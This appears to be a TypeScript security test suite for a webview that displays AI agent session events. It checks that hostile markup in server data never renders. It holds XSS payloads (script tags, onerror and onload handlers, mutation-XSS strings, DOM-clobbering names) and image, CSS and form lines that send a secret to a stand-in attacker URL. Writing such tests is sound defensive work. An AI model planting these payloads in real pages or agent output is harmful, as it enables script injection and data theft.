import assert from 'node:assert/strict';
import type { JsonObject } from '../../src/util/json.ts';
import { row } from '../e2e/support/sessionPanel.ts';
import { type Arena, inArena, sharedArena } from './support/arena.ts';
import { attack } from './support/attackList.ts';
import { agentMessage } from './support/hostileServer.ts';
import { anatomyOf, assertNoMarkup, showEvents, showText } from './support/hostilePage.ts';

const MARKUP = [
  '<script>globalThis.pwned=1</script>',
  '<img src=x onerror="globalThis.pwned=1">',
  '<svg onload="globalThis.pwned=1"><script>globalThis.pwned=1</script></svg>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned=1&gt;">',
  '<details open ontoggle=pwned=1>',
];

/** The same string wherever a server can put one. */
function everywhere(text: string): JsonObject[] {
  const at = '2026-01-01T00:00:01Z';
  const content = [{ type: 'text', text }];
  return [
    { id: 'u', type: 'user.message', content, processed_at: at },
    agentMessage('m', text),
    { id: 'k', type: 'agent.thinking', thinking: text, processed_at: at },
    { id: 't', type: 'agent.tool_use', name: text, input: { command: text, [text]: text }, processed_at: at },
    { id: 'r', type: 'agent.tool_result', tool_use_id: 't', content, processed_at: at },
    { id: 'c', type: 'agent.custom_tool_use', name: text, input: { [text]: text }, processed_at: at },
    { id: 'e', type: 'session.error', error: { type: text, message: text }, processed_at: at },
    { id: 's', type: 'session.updated', title: text, metadata: { [text]: text }, processed_at: at },
    { id: 'x', type: text, [text]: text, processed_at: at },
    { id: text, type: 'system.message', content, processed_at: at },
  ];
}

describe('markup in what a server says', () => {
  const { it } = inArena();
  let arena: Arena;

  before(async () => {
    arena = await sharedArena();
  });

  it(attack('B1'), async () => {
    const all = MARKUP.join('\n');
    const { page } = await showEvents(arena, 'markup', everywhere(all), MARKUP.join(' '));
    for (const piece of MARKUP) {
      await row(page, piece.slice(0, 30)).waitFor();
    }
    await assertNoMarkup(page);
    // The title is on the tab and in the lists of the editor as well.
    assert.equal(await arena.editor.page.locator('[onerror], [onload], iframe[srcdoc]').count(), 0);
  });

  it(attack('B2'), async () => {
    const text = '</script><script>globalThis.pwned=1</script><!-- ]]> {{constructor}}';
    const { page } = await showEvents(arena, 'closing', everywhere(text), text);
    await row(page, '{{constructor}}').waitFor();
    await assertNoMarkup(page);
    const source = await page
      .locator(':root')
      .evaluate((root) => new XMLSerializer().serializeToString(root));
    const scripts = [...source.matchAll(/<script[^>]*>([^]*?)<\/script>/g)].map(([, code]) => code ?? '');
    assert.deepEqual(
      scripts.filter((code) => code.includes('closing') || code.includes('constructor}}')),
      [],
      'data stands in a script',
    );
  });

  it(attack('B3'), async () => {
    const lead = `${arena.attacker.url}/?d=SECRET`;
    const { page } = await showText(
      arena,
      'carrying',
      [
        `![x](${lead})`,
        `![x][ref]\n\n[ref]: ${lead}`,
        `<img src="${lead}">`,
        `<picture><source srcset="${lead}"></picture>`,
        `<div style="background:url(${lead})" background="${lead}">`,
        `<video poster="${lead}"></video><object data="${lead}"></object>`,
        `![x](${lead.replace('http:', 'https:')} "t")`,
      ].join('\n\n'),
    );
    assert.equal(await row(page, '<picture>').locator('.placeholder').count(), 3);
    assert.equal(await page.locator('#app img, #app video, #app object, #app picture').count(), 0);
    await assertNoMarkup(page);
  });

  it(attack('B9'), async () => {
    const there = arena.attacker.url;
    const { page } = await showText(
      arena,
      'elements',
      [
        `<a href="${there}" ping="${there}">click</a>`,
        `<form action="${there}"><input name=q><button>Go</button></form>`,
        `<base href="${there}">`,
        `<meta http-equiv="refresh" content="0;url=${there}">`,
        `<link rel=stylesheet href="${there}"><link rel=dns-prefetch href="${there}">`,
        `<style>@import "${there}"; * { background: url(${there}) }</style>`,
      ].join('\n\n'),
    );
    await row(page, 'http-equiv="refresh"').waitFor();
    assert.equal(
      await page.locator('#app a, #app form[action], base, #app link, #app style, #app meta').count(),
      0,
    );
    await assertNoMarkup(page);
  });

  it(attack('B10'), async () => {
    const names = ['vscode', 'app', 'getState', 'acquireVsCodeApi', '__proto__', 'constructor', 'body'];
    const text = names.map((name) => `<img id=${name} name=${name}><a id=${name}>x</a>`).join('\n\n');
    const events = names.map((name) => agentMessage(name, `named \`${name}\``));
    const { page } = await showEvents(arena, 'names', [...events, agentMessage('all', text)]);
    for (const name of names) {
      await row(page, `named ${name}`).waitFor();
    }
    const { ids } = await anatomyOf(page);
    assert.deepEqual(
      ids.filter((id) => names.includes(id)),
      ['app'],
    );
    assert.equal(await page.locator('#app [name]').count(), 0);
    await assertNoMarkup(page);
  });
});
